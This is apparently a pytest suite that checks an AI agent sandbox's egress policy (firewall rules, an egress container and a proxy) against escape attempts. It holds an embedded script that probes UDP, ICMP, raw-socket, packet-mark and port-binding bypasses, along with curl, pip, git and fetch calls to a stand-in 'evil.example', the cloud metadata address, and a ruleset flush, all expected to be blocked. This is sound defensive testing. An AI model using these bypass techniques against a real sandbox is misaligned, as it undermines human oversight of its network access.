"""The network policy where there is no box: rules in the container's network, an egress container, and the explicit proxy."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.image.conftest import new_launcher
from tests.image.container import KEY, Launcher, Sandbox
from tests.image.egress_peers import EgressHosts, Peer, deny_all_but
from tests.patience import until

ENTRY_POINT = ["/opt/venv/bin/python", "-I", "-S", "/opt/tandem/sandbox_server/boot/entrypoint.py"]
EGRESS_CONTAINER = ["/opt/venv/bin/python", "-I", "-m", "sandbox_server", "egress-container"]
RIGHTS = ["--cap-drop=ALL", "--cap-add=NET_ADMIN", "--cap-add=SETUID", "--cap-add=SETGID"]
KILLS = 10
ATTACK = """
import socket, sys
def tell(name, attempt):
    try:
        print(name, attempt())
    except OSError as error:
        print(name, type(error).__name__)
def packet(port):
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (sys.argv[1], port))
def marked():
    sock = socket.socket()
    sock.settimeout(3)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x54616E64)
    sock.connect((sys.argv[1], 2222))
    return sock.recv(3)
tell("udp", lambda: packet(123))
tell("quic", lambda: packet(443))
tell("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]), (sys.argv[1], 0)))
tell("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tell("mark", marked)
tell("port", lambda: socket.create_server(("127.0.0.1", 15001)))
"""
REFUSED = "udp PermissionError\nquic PermissionError\nping PermissionError\nraw PermissionError\nmark PermissionError\nport OSError\n"


def environment(**values: str) -> list[str]:
    return [f"--env={name}={value}" for name, value in ({"SANDBOX_API_KEY": KEY} | values).items()]


def doctor(sandbox: Sandbox) -> dict[str, Any]:
    """What the doctor says of the policy."""
    checks = sandbox.request("GET", "/v1/doctor").json()["data"]["checks"]
    found: dict[str, Any] = next(check for check in checks if check["name"] == "egress_policy")
    return found


def peers(launcher: Launcher) -> tuple[Peer, Peer]:
    """A host that the policy allows, and one that it does not."""
    peer = Peer(launcher, "peer", "allowed.example", "tls.example", "ssh.example", "deep.allowed.example")
    return peer, Peer(launcher, "witness", "evil.example")


@pytest.fixture(scope="module")
def ruled() -> Iterator[EgressHosts]:
    """A container without a box as plain `docker run` starts it, with NET_ADMIN and without sudo."""
    launcher = new_launcher("egress-rules", boxed=False)
    try:
        peer, witness = peers(launcher)
        given = environment(ALLOW_SUDO="false", EGRESS_POLICY=deny_all_but(peer))
        sandbox = Sandbox(launcher.beside(ENTRY_POINT, "--cap-add=NET_ADMIN", *given))
        sandbox.wait_ready()
        yield EgressHosts(sandbox, peer, witness)
        sandbox.http.close()
    finally:
        launcher.remove()


@pytest.fixture(scope="module")
def guarded() -> Iterator[EgressHosts]:
    """A container in the network of an egress container, with sudo. Its gateway answers by the name of that."""
    launcher = new_launcher("egress-container", boxed=False)
    try:
        peer, witness = peers(launcher)
        gateway = Sandbox(launcher.beside(EGRESS_CONTAINER, *RIGHTS, *environment(EGRESS_POLICY=deny_all_but(peer))))
        until(lambda: "the rules are made" in gateway.logs(), told=gateway.logs)
        given = environment(FETCH_ALLOW="198.18.0.0/15")
        launcher.beside(ENTRY_POINT, "--cap-drop=NET_RAW", *given, network=f"container:{gateway.name}")
        gateway.wait_ready()
        yield EgressHosts(gateway, peer, witness)
        gateway.http.close()
    finally:
        launcher.remove()


def assert_decided(hosts: EgressHosts, user: str) -> None:
    """What is allowed is reached, and nothing else by anybody."""
    hosts.witness.forget()
    assert hosts.run("curl -sS -m 20 http://allowed.example/", user) == "served by peer"
    assert hosts.run("curl -sSk -m 20 https://tls.example/", user) == "served by peer"
    assert hosts.run(f"curl -sS -m 20 http://{hosts.peer.address}/", user) == "served by peer"
    assert "egress: evil.example:80: GET / is not allowed (default)" in hosts.run("curl -sS -m 20 http://evil.example/", user)
    assert "access denied" in hosts.run("curl -sS -m 20 https://evil.example/", user)
    assert "is not allowed" in hosts.run(f"curl -sS -m 20 http://{hosts.witness.address}/", user)
    assert "is not allowed" in hosts.run("curl -sS -m 20 http://169.254.169.254/", user)
    assert "is not allowed" in hosts.run("curl -sS -m 20 --resolve evil.example:80:192.0.2.1 http://evil.example/", user)
    hosts.run(f"cat > /tmp/attack.py <<'PROGRAM'\n{ATTACK}\nPROGRAM", "gem")
    assert hosts.run(f"python3 /tmp/attack.py {hosts.witness.address}", user) == REFUSED
    assert "not permitted" in hosts.run("/usr/sbin/nft flush ruleset", user)
    assert hosts.witness.heard() == []


def test_rules_in_the_containers_network_decide_on_every_program_of_the_agent(ruled: EgressHosts) -> None:
    assert_decided(ruled, "gem")


def test_rules_hold_while_the_egress_process_is_killed(ruled: EgressHosts) -> None:
    ruled.witness.forget()
    for _ in range(KILLS):
        ruled.sandbox.exec("pkill", "-KILL", "--uid", "egress")
        assert "is not allowed" in ruled.run("curl -sS -m 60 http://evil.example/", "gem")
        assert "is not allowed" in ruled.run(f"curl -sS -m 60 http://{ruled.witness.address}/", "gem")
    assert ruled.witness.heard() == []


def test_rules_leave_the_containers_own_services_in_reach(ruled: EgressHosts) -> None:
    assert "ready" in ruled.run("curl -sS -m 20 http://127.0.0.1:8080/readyz", "gem")


@pytest.mark.parametrize("name", ["ruled", "proxied"])
def test_the_api_changes_the_policy_at_once_and_lists_what_it_denied(name: str, request: pytest.FixtureRequest) -> None:
    hosts: EgressHosts = request.getfixturevalue(name)
    given = hosts.sandbox.request("GET", "/v1/egress/policy")
    before, etag = given.json()["data"]["policy"], given.headers["etag"]
    changed = hosts.sandbox.request("PUT", "/v1/egress/policy", json={"default": "deny"}, headers={"If-Match": etag})
    assert changed.status_code == 200, changed.text
    try:

        def listed() -> bool:  # the process may have just come back: the API follows it within two seconds
            refused = hosts.run("curl -sS -m 20 http://allowed.example/once", "gem")
            assert "egress: allowed.example:80: GET /once is not allowed (default)" in refused
            return '"GET /once"' in hosts.sandbox.request("GET", "/v1/egress/connections").text

        until(listed)
    finally:
        hosts.sandbox.request("PUT", "/v1/egress/policy", json=before, headers={"If-Match": changed.headers["etag"]}).raise_for_status()
    assert hosts.run("curl -sS -m 20 http://allowed.example/", "gem") == "served by peer"


def test_the_doctor_says_that_rules_hold(ruled: EgressHosts) -> None:
    found = doctor(ruled.sandbox)
    assert found["status"] == "holds", found
    assert ruled.sandbox.request("GET", "/v1/egress/status").json()["data"]["enforcement"] == "rules"
    assert "every connection of the agent's programs is decided by the policy" in found["detail"]


def test_the_doctor_says_that_sudo_goes_round_rules() -> None:
    launcher = new_launcher("egress-sudo", boxed=False)
    try:
        found = doctor(launcher.start(args=["--cap-add=NET_ADMIN"]))
    finally:
        launcher.remove()
    assert found["status"] == "lost", found
    assert "root, which the agent may become, goes round it" in found["detail"]
    assert "ALLOW_SUDO=false" in found["hint"]


@pytest.mark.parametrize("user", ["gem", "root"])
def test_an_egress_container_decides_on_every_program_root_included(guarded: EgressHosts, user: str) -> None:
    assert_decided(guarded, user)


@pytest.mark.parametrize("name", ["control", "desktop", "egress", "nobody"])
def test_an_egress_container_exempts_no_user(guarded: EgressHosts, name: str) -> None:
    guarded.witness.forget()
    assert "is not allowed" in guarded.run(f"sudo -u {name} curl -sS -m 20 http://{guarded.witness.address}/", "gem")
    assert guarded.witness.heard() == []


def test_an_egress_container_decides_on_what_the_sandboxs_server_fetches(guarded: EgressHosts) -> None:
    def fetch(name: str) -> str:
        return guarded.sandbox.request("POST", "/v1/util/convert_to_markdown", json={"uri": f"http://{name}/"}).text

    assert "served by peer" in fetch("allowed.example")
    assert "served by" not in fetch("evil.example")


def test_an_egress_container_tells_of_each_connection_in_its_log(guarded: EgressHosts) -> None:
    guarded.run("curl -sS -m 20 http://evil.example/told", "gem")

    def refused() -> list[tuple[str, str, int]]:
        events = [json.loads(line) for line in guarded.sandbox.logs().splitlines() if line.startswith("{")]
        told = [event for event in events if event["event"] == "refused" and event["request"] == "GET /told"]
        return [(event["host"], event["rule"], event["uid"]) for event in told]

    until(refused)  # the engine has it a little later
    assert refused() == [("evil.example", "default", 1000)]


def test_the_doctor_in_the_sandbox_sees_that_an_egress_container_decides(guarded: EgressHosts) -> None:
    found = doctor(guarded.sandbox)
    assert found["status"] == "holds", found
    assert "root's too" in found["detail"]


def test_an_egress_container_without_its_rights_does_not_start() -> None:
    launcher = new_launcher("egress-rightless")
    try:
        started = Sandbox(launcher.beside(EGRESS_CONTAINER, "--cap-drop=ALL"))
        until(lambda: started.inspect("{{.State.Running}}") == "false")
        assert started.inspect("{{.State.ExitCode}}") == "5"
        assert "--cap-add NET_ADMIN" in started.logs()
        started.http.close()
    finally:
        launcher.remove()


@pytest.fixture(scope="module")
def proxied() -> Iterator[EgressHosts]:
    """A container without a box and without rights over its network, with a policy."""
    launcher = new_launcher("egress-proxy", boxed=False)
    try:
        peer, witness = peers(launcher)
        yield EgressHosts(launcher.start(env={"EGRESS_POLICY": deny_all_but(peer)}), peer, witness)
    finally:
        launcher.remove()


def test_programs_ask_the_policy_by_the_proxy_of_their_environment(proxied: EgressHosts) -> None:
    assert proxied.run("curl -sS -m 20 http://allowed.example/", "gem") == "served by peer"
    assert proxied.run("curl -sSk -m 20 https://tls.example/", "gem") == "served by peer"
    assert "egress: evil.example:80: GET / is not allowed (default)" in proxied.run("curl -sS -m 20 http://evil.example/", "gem")
    assert "403" in proxied.run("curl -sS -m 20 https://evil.example/", "gem")
    proxied.witness.forget()
    assert "No matching" in proxied.run("pip download --no-input --retries 0 --index-url https://evil.example/simple six", "gem")
    assert "403" in proxied.run("git ls-remote https://evil.example/x.git", "gem")
    fetch = "fetch('http://evil.example/').then((answer) => answer.text(), (error) => `no: ${error.cause}`).then(console.log)"
    assert "no: " in proxied.sandbox.request("POST", "/v1/nodejs/execute", json={"code": fetch}).json()["data"]["stdout"]
    assert proxied.witness.heard() == []


def test_a_program_that_connects_by_itself_goes_round_a_proxy_and_the_doctor_says_so(proxied: EgressHosts) -> None:
    assert proxied.run("curl -sS -m 20 --noproxy '*' http://evil.example/", "gem") == "served by witness"
    found = doctor(proxied.sandbox)
    assert found["status"] == "lost"
    assert proxied.sandbox.request("GET", "/v1/egress/status").json()["data"]["enforcement"] == "proxy"
    assert "only programs that use the proxy of their environment ask the policy" in found["detail"]
    assert "--cap-add NET_ADMIN with ALLOW_SUDO=false" in found["hint"]


def test_chromium_asks_the_policy_by_the_proxy(proxied: EgressHosts) -> None:
    def shown(url: str) -> str:
        proxied.sandbox.request("POST", "/v1/browser/page/navigate", json={"url": url})
        answer = proxied.sandbox.request("POST", "/v1/browser/page/evaluate", json={"expression": "document.body.innerText"})
        return str(answer.json()["data"])

    proxied.witness.forget()
    assert "served by peer" in shown("http://allowed.example/")
    assert "egress: evil.example:80: GET / is not allowed" in shown("http://evil.example/")
    assert "served by" not in shown("https://evil.example/")
    assert proxied.witness.heard() == []


def test_without_a_policy_and_without_rights_programs_get_no_proxy() -> None:
    launcher = new_launcher("egress-none", boxed=False)
    try:
        sandbox = launcher.start(args=["--user=1000"])
        assert sandbox.run("sh", "-c", "env | grep -i _proxy").stdout == ""
        found = doctor(sandbox)
    finally:
        launcher.remove()
    assert found["status"] == "lost"
    assert "nothing in here keeps" in found["detail"]
    assert "egress container" in found["hint"]
